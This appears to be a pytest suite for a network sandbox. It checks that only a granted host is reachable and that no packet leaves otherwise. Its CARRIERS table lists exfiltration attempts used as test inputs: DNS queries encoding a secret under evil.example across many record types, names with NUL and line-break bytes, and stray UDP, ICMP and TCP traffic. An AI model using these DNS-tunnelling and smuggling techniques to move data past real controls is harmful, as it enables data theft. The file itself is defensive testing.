# SPDX-License-Identifier: Apache-2.0
"""What leaves the host for what a server does, as a packet socket on the cable sees it: nothing for what is not granted.

A name that is asked for is a message to whoever runs the zone's servers, whether or not it is answered; so is its case.
"""
import pytest
from network.world import DNS, HERE, OTHER, SITE, SITE6

pytestmark = pytest.mark.needs("root")
ATTEMPTS = ["/usr/bin/python3", f"{HERE}/attempts.py"]
TYPES = {"A": 1, "NS": 2, "SOA": 6, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255}
SECRET = "c2VjcmV0LXBheWxvYWQ"
# Words of attempts.py that carry a secret out, one way or another, with only ok.example:80 granted.
CARRIERS = {
    **{f"a question for {t}": ["dns", f"{SECRET}.evil.example", str(n)] for t, n in TYPES.items()},
    **{f"a question by TCP for {t}": ["dns", f"{SECRET}.evil.example", str(n), "tcp"] for t, n in TYPES.items() if t in ("A", "TXT", "ANY")},
    **{f"a question for {t} of a granted name": ["dns", "ok.example", str(n)] for t, n in TYPES.items()},
    "a name below a granted one": ["dns", f"{SECRET}.ok.example", "1"],
    "a granted name in a telling case": ["dns", "oK.eXaMpLe", "1"],
    "a reverse name": ["dns", "10.113.0.203.in-addr.arpa", "12"],
    "a service's name": ["dns", f"_{SECRET}._tcp.ok.example", "33"],
    "a name through getaddrinfo": ["resolve", f"{SECRET}.evil.example"],
    "a name of one label": ["resolve", SECRET],
    "a name in a label with a dot": ["dns", "\\x0aok.example\\x00", "1", "udp", "raw"],
    "a name with a NUL": ["dns", "\\x05ok\\x00ab\\x07example\\x00", "1", "udp", "raw"],
    "a name with a line's end": ["dns", "\\x06ok\\x0d\\x0aab\\x07example\\x00", "1", "udp", "raw"],
    "a datagram to a name server outside": ["udp", DNS, "53"],
    "a datagram to a granted host": ["udp", SITE, "80"],
    "a datagram over IPv6": ["udp", SITE6, "80"],
    "an echo request": ["icmp", SITE],
    "a connection to an address": ["tcp", OTHER, "80"],
    "a connection to another port of a granted name": ["tcp", "ok.example", "443"],
    "a connection to a name server": ["tcp", DNS, "53"],
}


def foreign(packets):
    """All but the question for the granted name, in lower case, and the connection to its address."""
    left = []
    for p in packets:
        plain = p["payload"][12:].startswith(b"\x02ok\x07example\x00\x00") and p["payload"][24:26] in (b"\x00\x01", b"\x00\x1c")
        if (p["to"], p["port"]) == (DNS, 53) and p["protocol"] == 17 and plain:
            continue
        if (p["to"], p["port"], p["protocol"]) == (SITE, 80, 6):
            continue
        left.append(p)
    return left


def connections(packets):
    return {(p["source"], p["to"], p["port"]) for p in packets if p["protocol"] == 6}


@pytest.fixture(scope="module")
def served(earth):
    guest = earth.guest()
    wire = guest.serve("--host", "ok.example:80")
    yield wire
    wire.end()
    guest.done()


@pytest.mark.parametrize("what", CARRIERS)
def test_nothing_leaves_the_host(world, guest, served, watcher, what):
    words = CARRIERS[what]
    guest.outside([*ATTEMPTS, *words])
    control = watcher.take()
    assert control, "the control: outside it leaves, and the watcher sees it"
    served.run([*ATTEMPTS, *words])
    # The control's own connections may have a last word when their other end is slow to close.
    assert [p for p in watcher.take() if not connections([p]) & connections(control)] == []
    world.internet.take()


def test_a_granted_name_is_asked_for_only_when_it_is_connected_to_and_in_lower_case(world, served, watcher):
    served.out([*ATTEMPTS, "resolve", "ok.example"])
    assert watcher.take() == []
    assert served.out(["curl", "-sS", "http://oK.eXaMpLe/"])
    packets = watcher.take()
    assert packets and foreign(packets) == []
    assert {(n, t) for n, t, _ in world.internet.take()["queries"]} == {("ok.example", "A"), ("ok.example", "AAAA")}


@pytest.fixture(scope="module")
def served_real(earth):
    guest = earth.guest()
    wire = guest.serve_profile({"allow": ["ok.example:80", "*.wild.example:80"], "addresses": "real"})
    yield wire
    wire.end()
    guest.done()


def asks_for_addresses(words):
    return "ok.example" in [w.lower() for w in words] and (words[0] == "tcp" or words[2] == "1")


@pytest.mark.parametrize("what", CARRIERS)
def test_nothing_else_leaves_with_real_addresses(world, served_real, watcher, what):
    """The controls are those above. A question for the addresses of a granted name asks its zone here, and no other question does."""
    served_real.run([*ATTEMPTS, *CARRIERS[what]])
    packets = watcher.take()
    assert (packets and foreign(packets) == []) if asks_for_addresses(CARRIERS[what]) else packets == []
    world.internet.take()


def test_with_real_addresses_a_question_sends_the_names_own_in_lower_case_and_nothing_of_its_form(world, served_real, watcher):
    assert served_real.out([*ATTEMPTS, "dns", "oK.eXaMpLe", "1"]) == "NOERROR 1\n"
    packets = watcher.take()
    assert packets and foreign(packets) == []
    assert {(n, t) for n, t, _ in world.internet.take()["queries"]} == {("ok.example", "A"), ("ok.example", "AAAA")}
    assert served_real.out([*ATTEMPTS, "dns", "aPi.WiLd.eXaMpLe", "1"]) == "NOERROR 1\n"
    assert {n for n, _, _ in world.internet.take()["queries"]} == {"api.wild.example"}
    assert [p for p in watcher.take() if p["port"] != 53] == []


def test_under_a_wildcard_the_label_reaches_the_zone_and_nothing_else_does(world, guest, watcher):
    wire = guest.serve("--host", "*.wild.example:80")
    wire.run([*ATTEMPTS, "resolve", f"{SECRET}.evil.example"])
    wire.run([*ATTEMPTS, "dns", "api.wild.example", "16"])
    assert watcher.take() == []
    wire.out(["curl", "-sS", "http://API.wild.example/"])
    assert {n for n, _, _ in world.internet.take()["queries"]} == {"api.wild.example"}
    wire.end()
